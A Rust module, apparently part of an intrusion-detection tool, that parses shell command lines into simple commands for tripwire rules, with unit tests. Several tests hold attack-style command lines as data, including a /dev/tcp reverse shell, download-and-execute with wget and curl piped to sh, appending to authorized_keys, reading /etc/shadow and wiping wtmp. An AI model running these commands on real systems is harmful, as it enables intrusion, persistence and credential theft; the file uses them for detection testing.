//! A small, bounded reader of shell command lines: it splits a line into the simple commands a
//! shell would run and finds the command word of each.
//!
//! It is not a shell: it understands what tripwires need and no more. Quotes (`'…'`, `"…"`,
//! `\x`), the separators `;`, `&&`, `||`, `&`, `|`, `|&` and newlines, subshell parentheses,
//! redirections (`>`, `>>`, `<`, `2>&1`, `&>`, `>&`, `<<EOF` here-documents, `<<<` here-strings)
//! and comments. Command substitutions (`$(…)`, `` `…` ``) and process substitutions (`<(…)`,
//! `>(…)`) are read as commands of their own (they run too) and stay, as written, in the word
//! that holds them, so an argument pattern still sees `kill -9 $(pgrep xmrig)`. The string of
//! `sh -c '…'` (any shell), `su -c '…'` and `eval …`, and the here-document fed to a shell, are
//! read as commands as well.
//!
//! Everything is bounded: the caller passes at most [`MAX_LINE`] bytes; at most
//! [`MAX_COMMANDS`] commands come out of a line, each with at most `MAX_WORDS` words; nesting
//! deeper than [`MAX_DEPTH`] is skipped over, not read. One pass over the input per level of
//! `sh -c` nesting, so the work is linear in the line (times the depth at worst).

/// Bytes of a line that are read; the rest is ignored.
pub(crate) const MAX_LINE: usize = 8 * 1024;
/// Simple commands read from one line (nested ones included).
pub(crate) const MAX_COMMANDS: usize = 64;
/// Levels of `$(…)`, backticks and `sh -c` read; deeper ones are skipped.
pub(crate) const MAX_DEPTH: u8 = 8;
/// Words kept of one simple command.
const MAX_WORDS: usize = 128;
/// Redirections kept of one simple command.
const MAX_REDIRS: usize = 16;
/// Bytes kept of one word.
const MAX_WORD: usize = 2048;
/// Bytes of a command's text kept (for the reason of a hit).
const MAX_TEXT: usize = 200;

/// What a redirection does with its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RedirOp {
    /// `>`, `>|`, `&>`, `2>`, `>& file`, `<>`: the target is truncated (or opened to write).
    Write,
    /// `>>`, `&>>`: appended to.
    Append,
    /// `<`: read.
    Read,
}

/// A redirection of a simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Redir {
    pub op: RedirOp,
    pub target: String,
}

/// One simple command.
#[derive(Debug, Clone, Default)]
pub(crate) struct Cmd {
    /// Every word, quotes removed: assignments and wrappers (`sudo`, `nohup`…) first.
    pub words: Vec<String>,
    /// Index of the command word in `words` (`words.len()` when there is none: `A=1`, `> f`).
    pub start: usize,
    pub redirs: Vec<Redir>,
    /// Its output goes into the next command of its pipeline.
    pub pipe_out: bool,
    /// The pipeline it belongs to: commands of one `a | b | c` share it (unique in a line).
    pub pipeline: u32,
    /// The command as written, at most `MAX_TEXT` bytes.
    pub text: String,
}

impl Cmd {
    /// The command word as written (`/usr/bin/wget`, `./x.sh`).
    pub fn word(&self) -> &str {
        self.words.get(self.start).map_or("", String::as_str)
    }

    /// The command's name: the basename of the command word (`wget`, `x.sh`), or "".
    pub fn name(&self) -> &str {
        basename(self.word())
    }

    /// The words after the command word.
    pub fn args(&self) -> &[String] {
        self.words.get(self.start + 1..).unwrap_or(&[])
    }

    /// The words before the command word (assignments, wrappers and their options).
    pub fn prefix(&self) -> &[String] {
        &self.words[..self.start.min(self.words.len())]
    }

    /// The arguments that are not options (all of them after `--`).
    pub fn operands(&self) -> impl Iterator<Item = &str> {
        let mut after_dashes = false;
        self.args().iter().filter_map(move |a| {
            if after_dashes {
                return Some(a.as_str());
            }
            if a == "--" {
                after_dashes = true;
                return None;
            }
            (!a.starts_with('-') || a == "-").then_some(a.as_str())
        })
    }

    /// A short option is given: `-r`, or within a cluster such as `-rf` (not `--long`).
    pub fn has_short(&self, flag: char) -> bool {
        self.args().iter().any(|a| {
            a.len() > 1 && a.starts_with('-') && !a.starts_with("--") && a[1..].contains(flag)
        })
    }

    /// A long option is given, alone or with `=value`.
    pub fn has_long(&self, flag: &str) -> bool {
        self.args()
            .iter()
            .any(|a| a == flag || a.strip_prefix(flag).is_some_and(|r| r.starts_with('=')))
    }

    /// An argument equal to `w`.
    pub fn has_arg(&self, w: &str) -> bool {
        self.args().iter().any(|a| a == w)
    }
}

/// The last path component (`/usr/bin/wget` → `wget`).
pub(crate) fn basename(p: &str) -> &str {
    let p = p.trim_end_matches('/');
    p.rsplit('/').next().unwrap_or(p)
}

/// The simple commands of `line` (at most [`MAX_LINE`] bytes of it are read).
pub(crate) fn parse(line: &str) -> Vec<Cmd> {
    let line = clip(line, MAX_LINE);
    let mut sink = Sink::default();
    parse_into(line, 0, &mut sink);
    sink.out
}

/// `s` cut to at most `max` bytes, on a character boundary.
pub(crate) use tripline_event::truncate_str as clip;

/// Where the commands of a line go, shared by the nested readers.
#[derive(Default)]
struct Sink {
    out: Vec<Cmd>,
    pipelines: u32,
}

impl Sink {
    fn full(&self) -> bool {
        self.out.len() >= MAX_COMMANDS
    }
}

fn parse_into(s: &str, depth: u8, sink: &mut Sink) {
    if depth > MAX_DEPTH || sink.full() {
        return;
    }
    let mut lx = Lexer {
        s: s.as_bytes(),
        i: 0,
        sink,
    };
    lx.seq(depth, Close::Eof);
}

/// What ends a sequence of commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Close {
    Eof,
    /// `)` of `$(…)`, `<(…)`.
    Paren,
    Backtick,
}

/// A redirection waiting for its target word.
#[derive(Debug, Clone, Copy)]
enum Pending {
    Redir(RedirOp),
    /// `>&`, `<&`: a file descriptor (ignored) or, for `>&`, a file.
    Dup {
        write: bool,
    },
    Heredoc {
        strip_tabs: bool,
    },
}

/// A here-document whose body starts at the next newline.
struct Heredoc {
    delim: Vec<u8>,
    strip_tabs: bool,
    /// The command it feeds is a shell: the body is read as commands.
    to_shell: bool,
}

/// The simple command being read.
#[derive(Default)]
struct Builder {
    words: Vec<String>,
    redirs: Vec<Redir>,
    word: Vec<u8>,
    in_word: bool,
    pending: Option<Pending>,
    heredocs: Vec<(Vec<u8>, bool)>,
    pipeline: Option<u32>,
    text_start: Option<usize>,
}

impl Builder {
    fn push(&mut self, b: u8) {
        if self.word.len() < MAX_WORD {
            self.word.push(b);
        }
    }

    fn extend(&mut self, bytes: &[u8]) {
        let room = MAX_WORD.saturating_sub(self.word.len());
        self.word.extend_from_slice(&bytes[..bytes.len().min(room)]);
    }

    fn is_empty(&self) -> bool {
        self.words.is_empty() && self.redirs.is_empty() && !self.in_word
    }
}

struct Lexer<'s, 'k> {
    s: &'s [u8],
    i: usize,
    sink: &'k mut Sink,
}

impl Lexer<'_, '_> {
    fn peek(&self, ahead: usize) -> Option<u8> {
        self.s.get(self.i + ahead).copied()
    }

    /// Opens a word (or keeps the open one) and marks where the command's text starts.
    fn open(&self, b: &mut Builder) {
        b.in_word = true;
        b.text_start.get_or_insert(self.i);
    }

    /// Reads commands until `close` (consumed) or the end of the input.
    fn seq(&mut self, depth: u8, close: Close) {
        let mut b = Builder::default();
        let mut heredocs: Vec<Heredoc> = vec![];
        let mut parens = 0u32;
        while self.i < self.s.len() {
            if self.sink.full() {
                self.i = self.s.len();
                break;
            }
            let c = self.s[self.i];
            match c {
                b')' if close == Close::Paren && parens == 0 => {
                    self.finish(&mut b, false, depth, &mut heredocs);
                    self.i += 1;
                    return;
                }
                b'`' if close == Close::Backtick => {
                    self.finish(&mut b, false, depth, &mut heredocs);
                    self.i += 1;
                    return;
                }
                b')' => {
                    self.finish(&mut b, false, depth, &mut heredocs);
                    parens = parens.saturating_sub(1);
                    self.i += 1;
                }
                b'(' if !b.in_word => {
                    self.finish(&mut b, false, depth, &mut heredocs);
                    parens += 1;
                    self.i += 1;
                }
                b' ' | b'\t' | b'\r' => {
                    self.end_word(&mut b);
                    self.i += 1;
                }
                b'\n' => {
                    self.finish(&mut b, false, depth, &mut heredocs);
                    self.i += 1;
                    self.heredoc_bodies(&mut heredocs, depth);
                }
                b';' => {
                    self.finish(&mut b, false, depth, &mut heredocs);
                    self.i += 1;
                }
                b'&' => match self.peek(1) {
                    Some(b'&') => {
                        self.finish(&mut b, false, depth, &mut heredocs);
                        self.i += 2;
                    }
                    Some(b'>') => {
                        self.end_word(&mut b);
                        b.text_start.get_or_insert(self.i);
                        self.i += 2;
                        let op = if self.peek(0) == Some(b'>') {
                            self.i += 1;
                            RedirOp::Append
                        } else {
                            RedirOp::Write
                        };
                        b.pending = Some(Pending::Redir(op));
                    }
                    _ => {
                        self.finish(&mut b, false, depth, &mut heredocs);
                        self.i += 1;
                    }
                },
                b'|' => {
                    if self.peek(1) == Some(b'|') {
                        self.finish(&mut b, false, depth, &mut heredocs);
                        self.i += 2;
                    } else {
                        let pipeline = self.finish(&mut b, true, depth, &mut heredocs);
                        b.pipeline = Some(pipeline);
                        self.i += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                    }
                }
                b'>' | b'<' => self.redirect(&mut b, depth),
                b'\'' => {
                    self.open(&mut b);
                    self.i += 1;
                    while self.i < self.s.len() && self.s[self.i] != b'\'' {
                        b.push(self.s[self.i]);
                        self.i += 1;
                    }
                    self.i += 1;
                }
                b'"' => self.double_quoted(&mut b, depth),
                b'\\' => {
                    match self.peek(1) {
                        Some(b'\n') => {}
                        Some(n) => {
                            self.open(&mut b);
                            b.push(n);
                        }
                        None => {}
                    }
                    self.i += 2;
                }
                b'$' => self.dollar(&mut b, depth),
                b'`' => self.backtick(&mut b, depth),
                b'#' if !b.in_word => {
                    while self.i < self.s.len() && self.s[self.i] != b'\n' {
                        self.i += 1;
                    }
                }
                _ => {
                    self.open(&mut b);
                    b.push(c);
                    self.i += 1;
                }
            }
        }
        self.i = self.i.min(self.s.len());
        self.finish(&mut b, false, depth, &mut heredocs);
    }

    /// Closes the open word: a redirection's target, a here-document's delimiter or a word.
    fn end_word(&mut self, b: &mut Builder) {
        if !b.in_word {
            return;
        }
        b.in_word = false;
        let bytes = std::mem::take(&mut b.word);
        match b.pending.take() {
            Some(Pending::Heredoc { strip_tabs }) => b.heredocs.push((bytes, strip_tabs)),
            Some(Pending::Dup { write }) => {
                let w = String::from_utf8_lossy(&bytes);
                let fd = w == "-" || w.bytes().all(|c| c.is_ascii_digit());
                if write && !fd && b.redirs.len() < MAX_REDIRS {
                    b.redirs.push(Redir {
                        op: RedirOp::Write,
                        target: w.into_owned(),
                    });
                }
            }
            Some(Pending::Redir(op)) => {
                if b.redirs.len() < MAX_REDIRS {
                    b.redirs.push(Redir {
                        op,
                        target: String::from_utf8_lossy(&bytes).into_owned(),
                    });
                }
            }
            None => {
                if b.words.len() < MAX_WORDS {
                    b.words.push(String::from_utf8_lossy(&bytes).into_owned());
                }
            }
        }
    }

    /// Ends the command being built and starts the next; returns the command's pipeline.
    fn finish(
        &mut self,
        b: &mut Builder,
        pipe_out: bool,
        depth: u8,
        heredocs: &mut Vec<Heredoc>,
    ) -> u32 {
        self.end_word(b);
        let pipeline = match b.pipeline {
            Some(p) => p,
            None => {
                self.sink.pipelines = self.sink.pipelines.wrapping_add(1);
                self.sink.pipelines
            }
        };
        if b.is_empty() {
            *b = Builder::default();
            return pipeline;
        }
        let done = std::mem::take(b);
        let start = command_start(&done.words);
        if start == done.words.len()
            && done.redirs.is_empty()
            && done.words.iter().all(|w| RESERVED.contains(&w.as_str()))
        {
            // `done`, `fi`, `}`: nothing runs
            return pipeline;
        }
        let text = {
            let from = done.text_start.unwrap_or(self.i).min(self.s.len());
            let to = self.i.min(self.s.len()).max(from);
            let raw = String::from_utf8_lossy(&self.s[from..to]);
            clip(raw.trim(), MAX_TEXT).to_string()
        };
        let cmd = Cmd {
            words: done.words,
            start,
            redirs: done.redirs,
            pipe_out,
            pipeline,
            text,
        };
        let inner = shell_string(&cmd);
        let to_shell = is_shell(cmd.name()) && inner.is_none() && cmd.operands().next().is_none();
        heredocs.extend(
            done.heredocs
                .into_iter()
                .map(|(delim, strip_tabs)| Heredoc {
                    delim,
                    strip_tabs,
                    to_shell,
                }),
        );
        if !self.sink.full() {
            self.sink.out.push(cmd);
        }
        if let Some(inner) = inner {
            parse_into(&inner, depth + 1, self.sink);
        }
        pipeline
    }

    /// Skips the bodies of the pending here-documents (reading those fed to a shell).
    fn heredoc_bodies(&mut self, heredocs: &mut Vec<Heredoc>, depth: u8) {
        for h in heredocs.drain(..) {
            let body_start = self.i;
            let mut body_end = self.s.len();
            while self.i < self.s.len() {
                let end = self.s[self.i..]
                    .iter()
                    .position(|&c| c == b'\n')
                    .map_or(self.s.len(), |p| self.i + p);
                let mut l = &self.s[self.i..end];
                if h.strip_tabs {
                    while let [b'\t', rest @ ..] = l {
                        l = rest;
                    }
                }
                if let [rest @ .., b'\r'] = l {
                    l = rest;
                }
                let line_start = self.i;
                self.i = (end + 1).min(self.s.len());
                if l == h.delim.as_slice() {
                    body_end = line_start;
                    break;
                }
            }
            if h.to_shell && body_start < body_end {
                let body = String::from_utf8_lossy(&self.s[body_start..body_end]).into_owned();
                parse_into(&body, depth + 1, self.sink);
            }
        }
    }

    fn redirect(&mut self, b: &mut Builder, depth: u8) {
        let c = self.s[self.i];
        if self.peek(1) == Some(b'(') {
            // process substitution: a word, and commands of its own
            self.open(b);
            let from = self.i;
            self.i += 2;
            self.nested(depth, Close::Paren);
            b.extend(&self.s[from..self.i.min(self.s.len())]);
            return;
        }
        // `2>`: the digits before the operator name a file descriptor, not a word
        if b.in_word && !b.word.is_empty() && b.word.iter().all(u8::is_ascii_digit) {
            b.word.clear();
            b.in_word = false;
        }
        self.end_word(b);
        b.text_start.get_or_insert(self.i);
        self.i += 1;
        let pending = if c == b'>' {
            match self.peek(0) {
                Some(b'>') => {
                    self.i += 1;
                    Pending::Redir(RedirOp::Append)
                }
                Some(b'|') => {
                    self.i += 1;
                    Pending::Redir(RedirOp::Write)
                }
                Some(b'&') => {
                    self.i += 1;
                    Pending::Dup { write: true }
                }
                _ => Pending::Redir(RedirOp::Write),
            }
        } else {
            match self.peek(0) {
                Some(b'<') => {
                    self.i += 1;
                    if self.peek(0) == Some(b'<') {
                        self.i += 1;
                        // a here-string: its word is data, not a file
                        Pending::Dup { write: false }
                    } else {
                        let strip_tabs = self.peek(0) == Some(b'-');
                        if strip_tabs {
                            self.i += 1;
                        }
                        Pending::Heredoc { strip_tabs }
                    }
                }
                Some(b'&') => {
                    self.i += 1;
                    Pending::Dup { write: false }
                }
                Some(b'>') => {
                    self.i += 1;
                    Pending::Redir(RedirOp::Write)
                }
                _ => Pending::Redir(RedirOp::Read),
            }
        };
        b.pending = Some(pending);
    }

    fn double_quoted(&mut self, b: &mut Builder, depth: u8) {
        self.open(b);
        self.i += 1;
        while self.i < self.s.len() {
            match self.s[self.i] {
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'\\' => match self.peek(1) {
                    Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                        b.push(n);
                        self.i += 2;
                    }
                    Some(b'\n') => self.i += 2,
                    _ => {
                        b.push(b'\\');
                        self.i += 1;
                    }
                },
                b'$' => self.dollar(b, depth),
                b'`' => self.backtick(b, depth),
                c => {
                    b.push(c);
                    self.i += 1;
                }
            }
        }
    }

    /// `$(…)`, `$((…))`, `${…}` or a plain `$`.
    fn dollar(&mut self, b: &mut Builder, depth: u8) {
        self.open(b);
        let from = self.i;
        match (self.peek(1), self.peek(2)) {
            (Some(b'('), Some(b'(')) => {
                // arithmetic: data
                self.i += 3;
                self.skip_parens(2);
            }
            (Some(b'('), _) => {
                self.i += 2;
                self.nested(depth, Close::Paren);
            }
            (Some(b'{'), _) => {
                self.i += 2;
                while self.i < self.s.len() && self.s[self.i] != b'}' {
                    self.i += 1;
                }
                self.i += 1;
            }
            _ => self.i += 1,
        }
        self.i = self.i.min(self.s.len());
        b.extend(&self.s[from..self.i]);
    }

    fn backtick(&mut self, b: &mut Builder, depth: u8) {
        self.open(b);
        let from = self.i;
        self.i += 1;
        self.nested(depth, Close::Backtick);
        self.i = self.i.min(self.s.len());
        b.extend(&self.s[from..self.i]);
    }

    /// Reads a substitution's commands, or skips it when nested too deep.
    fn nested(&mut self, depth: u8, close: Close) {
        if depth < MAX_DEPTH {
            self.seq(depth + 1, close);
        } else if close == Close::Paren {
            self.skip_parens(1);
        } else {
            while self.i < self.s.len() && self.s[self.i] != b'`' {
                self.i += 1;
            }
            self.i += 1;
        }
    }

    /// Skips to the `)` that closes `open` open parentheses (quotes respected).
    fn skip_parens(&mut self, mut open: u32) {
        while self.i < self.s.len() && open > 0 {
            match self.s[self.i] {
                b'(' => open += 1,
                b')' => open -= 1,
                b'\\' => self.i += 1,
                b'\'' => {
                    self.i += 1;
                    while self.i < self.s.len() && self.s[self.i] != b'\'' {
                        self.i += 1;
                    }
                }
                _ => {}
            }
            self.i += 1;
        }
        self.i = self.i.min(self.s.len());
    }
}

/// The shells whose `-c` string (or here-document) is read as commands.
pub(crate) const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "rbash"];

pub(crate) fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

/// The command string a command runs: `sh -c STR`, `su -c STR`, `eval ARGS…`.
fn shell_string(cmd: &Cmd) -> Option<String> {
    let args = cmd.args();
    match cmd.name() {
        n if is_shell(n) => {
            for (k, a) in args.iter().enumerate() {
                if !a.starts_with('-') || a.starts_with("--") {
                    return None;
                }
                if a[1..].contains('c') {
                    return args.get(k + 1).cloned();
                }
            }
            None
        }
        "su" | "runuser" => args.iter().enumerate().find_map(|(k, a)| {
            if a == "-c" || a == "--command" {
                args.get(k + 1).cloned()
            } else {
                a.strip_prefix("--command=").map(str::to_string)
            }
        }),
        "eval" if !args.is_empty() => Some(args.join(" ")),
        _ => None,
    }
}

/// Reserved words that may stand before a command word.
const RESERVED: &[&str] = &[
    "{", "}", "(", ")", "!", "do", "then", "else", "elif", "if", "while", "until", "done", "fi",
    "esac", "time",
];

/// A shell variable assignment (`A=b`, `PATH+=…`).
pub(crate) fn is_assignment(w: &str) -> bool {
    let Some(eq) = w.find('=') else {
        return false;
    };
    let name = w[..eq].trim_end_matches('+');
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The index of the command word: past assignments, reserved words and the wrappers that run
/// another command (`sudo`, `nohup`, `busybox`, `timeout N`, `nice`, `exec`, `command`, `env`,
/// `xargs`…) with their options.
pub(crate) fn command_start(words: &[String]) -> usize {
    let mut i = 0;
    while i < words.len() {
        let w = words[i].as_str();
        if is_assignment(w) || RESERVED.contains(&w) {
            i += 1;
            continue;
        }
        let next = i + 1;
        i = match basename(w) {
            "sudo" | "doas" => skip_options(
                words,
                next,
                &[
                    "-u", "-g", "-C", "-h", "-p", "-U", "-r", "-t", "-D", "-R", "-T",
                ],
            ),
            "nohup" | "builtin" | "busybox" => next,
            // `sshpass -p PASS ssh …`: the command is ssh (the rules see sshpass before it)
            "sshpass" => skip_options(words, next, &["-p", "-f", "-d", "-P"]),
            "command" => {
                // `command -v x` looks x up: it runs nothing
                if words
                    .get(next)
                    .is_some_and(|a| a.starts_with("-v") || a.starts_with("-V"))
                {
                    return i;
                }
                skip_options(words, next, &[])
            }
            "exec" => skip_options(words, next, &["-a"]),
            "setsid" | "stdbuf" | "chronic" => skip_options(words, next, &["-i", "-o", "-e"]),
            "nice" | "ionice" => skip_options(words, next, &["-n", "-c", "-p", "--adjustment"]),
            "env" => skip_options(words, next, &["-u", "-C", "-S", "--unset", "--chdir"]),
            "xargs" => skip_options(
                words,
                next,
                &[
                    "-I", "-i", "-n", "-P", "-L", "-l", "-d", "-a", "-E", "-e", "-s",
                ],
            ),
            "timeout" => {
                let after = skip_options(words, next, &["-s", "-k", "--signal", "--kill-after"]);
                // the duration
                (after + 1).min(words.len())
            }
            _ => return i,
        };
    }
    words.len()
}

/// The index of the first word at or after `i` that is not an option (nor an option's value:
/// `with_value` lists the options that take one). Stops after `--`.
fn skip_options(words: &[String], mut i: usize, with_value: &[&str]) -> usize {
    while let Some(w) = words.get(i) {
        if w == "--" {
            return i + 1;
        }
        if !w.starts_with('-') || w == "-" {
            break;
        }
        i += if with_value.contains(&w.as_str()) {
            2
        } else {
            1
        };
    }
    i.min(words.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(line: &str) -> Vec<String> {
        parse(line).iter().map(|c| c.name().to_string()).collect()
    }

    #[test]
    fn splits_on_every_separator_and_finds_the_command_word() {
        assert_eq!(
            names("cd /tmp; wget http://1.2.3.4/x.sh && chmod +x x.sh || ./x.sh & echo a | sh"),
            ["cd", "wget", "chmod", "x.sh", "echo", "sh"]
        );
        assert_eq!(names("uname -a\nid\r\nw"), ["uname", "id", "w"]);
        assert_eq!(names("A=1 B=2 sudo -u root nohup busybox wget x"), ["wget"]);
        assert_eq!(names("timeout 10 nice -n 5 /usr/bin/curl x"), ["curl"]);
        assert_eq!(
            names("exec -a foo xmrig; command ls; env -i X=1 id"),
            ["xmrig", "ls", "id"]
        );
        assert_eq!(names("command -v wget"), ["command"]);
        assert_eq!(
            names("ps aux | grep x | xargs -I % kill -9 %"),
            ["ps", "grep", "kill"]
        );
        assert_eq!(names("( cd /tmp; ls ); { id; }"), ["cd", "ls", "id"]);
        assert_eq!(names("HISTSIZE=0"), [""]);
        assert_eq!(
            names("if true; then id; fi; for i in 1 2; do ping $i; done"),
            ["true", "id", "for", "ping"]
        );
        // comments are not commands
        assert_eq!(names("id # wget x"), ["id"]);
    }

    #[test]
    fn quotes_are_removed_and_operators_inside_them_are_data() {
        let c = parse(r#"echo 'a;b' "c|d" e\ f "g\"h""#);
        assert_eq!(c.len(), 1);
        assert_eq!(c[0].args(), ["a;b", "c|d", "e f", "g\"h"]);
        // adjacent pieces make one word
        assert_eq!(parse(r#"ec"h"o x"#)[0].name(), "echo");
    }

    #[test]
    fn substitutions_and_shell_strings_are_read_as_commands() {
        assert_eq!(names("echo $(cat /etc/shadow)"), ["cat", "echo"]);
        assert_eq!(names("echo `whoami`"), ["whoami", "echo"]);
        assert_eq!(names("kill -9 $(pgrep xmrig)"), ["pgrep", "kill"]);
        // the word keeps the substitution as written
        assert_eq!(
            parse("kill -9 $(pgrep xmrig)")[1].args()[1],
            "$(pgrep xmrig)"
        );
        assert_eq!(names("sh -c 'uname -a; wget x'"), ["sh", "uname", "wget"]);
        assert_eq!(names("bash -c \"curl x | sh\""), ["bash", "curl", "sh"]);
        assert_eq!(names("su root -c 'id'"), ["su", "id"]);
        assert_eq!(names("eval \"ls; id\""), ["eval", "ls", "id"]);
        assert_eq!(names("bash <(curl -s x)"), ["curl", "bash"]);
        assert_eq!(names("echo $((1+2)) ${HOME}"), ["echo"]);
    }

    #[test]
    fn redirections_are_kept_with_their_targets() {
        let c = parse("echo key >> ~/.ssh/authorized_keys 2>&1");
        assert_eq!(c[0].args(), ["key"]);
        assert_eq!(
            c[0].redirs,
            [Redir {
                op: RedirOp::Append,
                target: "~/.ssh/authorized_keys".into()
            }]
        );
        let c = parse("> /var/log/wtmp");
        assert_eq!(c.len(), 1);
        assert_eq!(c[0].name(), "");
        assert_eq!(c[0].redirs[0].op, RedirOp::Write);
        let c = parse("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1");
        assert_eq!(c[0].redirs[0].target, "/dev/tcp/1.2.3.4/4444");
        assert_eq!(c[0].redirs.len(), 1);
        let c = parse("cat < /etc/shadow &> out");
        assert_eq!(c[0].redirs[0].op, RedirOp::Read);
        assert_eq!(c[0].redirs[1].target, "out");
    }

    #[test]
    fn pipelines_are_grouped() {
        let c = parse("curl x | sh; id | cat");
        assert!(c[0].pipe_out && !c[1].pipe_out);
        assert_eq!(c[0].pipeline, c[1].pipeline);
        assert_ne!(c[1].pipeline, c[2].pipeline);
        assert_eq!(c[2].pipeline, c[3].pipeline);
    }

    #[test]
    fn heredoc_bodies_are_data_unless_a_shell_reads_them() {
        let c =
            parse("cat > /etc/systemd/system/x.service <<EOF\nExecStart=/tmp/x\nwget y\nEOF\nid");
        assert_eq!(c.iter().map(Cmd::name).collect::<Vec<_>>(), ["cat", "id"]);
        let c = parse("bash <<'EOF'\nwget y\nEOF\n");
        assert_eq!(
            c.iter().map(Cmd::name).collect::<Vec<_>>(),
            ["bash", "wget"]
        );
    }

    #[test]
    fn hostile_input_is_bounded() {
        // unbalanced quotes and substitutions end at the end of the input
        assert_eq!(names("echo 'abc"), ["echo"]);
        assert_eq!(names("echo \"$(id"), ["id", "echo"]);
        assert_eq!(names("a ) b ) ) c"), ["a", "b", "c"]);
        // deep nesting: only MAX_DEPTH levels are read
        let deep = format!("{}id{}", "$(".repeat(5000), ")".repeat(5000));
        let c = parse(&deep);
        assert!(c.len() <= MAX_DEPTH as usize + 1, "{}", c.len());
        // many commands: at most MAX_COMMANDS
        assert_eq!(parse(&"id;".repeat(10_000)).len(), MAX_COMMANDS);
        // nested shells
        let mut s = "id".to_string();
        for _ in 0..12 {
            s = format!("sh -c {:?}", s);
        }
        assert!(parse(&s).len() <= MAX_DEPTH as usize + 2);
        // NULs and invalid bytes are data
        assert_eq!(names("w\0get x;\0"), ["w\0get", "\0"]);
        assert_eq!(parse(&"x".repeat(100_000))[0].words[0].len(), MAX_WORD);
        assert!(parse("").is_empty());
        assert!(parse("\\").is_empty());
    }

    #[test]
    fn command_start_skips_wrappers_only() {
        let w = |s: &str| s.split(' ').map(str::to_string).collect::<Vec<_>>();
        assert_eq!(command_start(&w("sshd -t")), 0);
        assert_eq!(command_start(&w("sudo -u x -E id")), 4);
        assert_eq!(command_start(&w("timeout -s 9 10 id")), 4);
        assert_eq!(command_start(&w("A=1")), 1);
        assert!(is_assignment("HISTFILE=/dev/null"));
        assert!(!is_assignment("=x") && !is_assignment("1A=x") && !is_assignment("a.b=c"));
    }
}
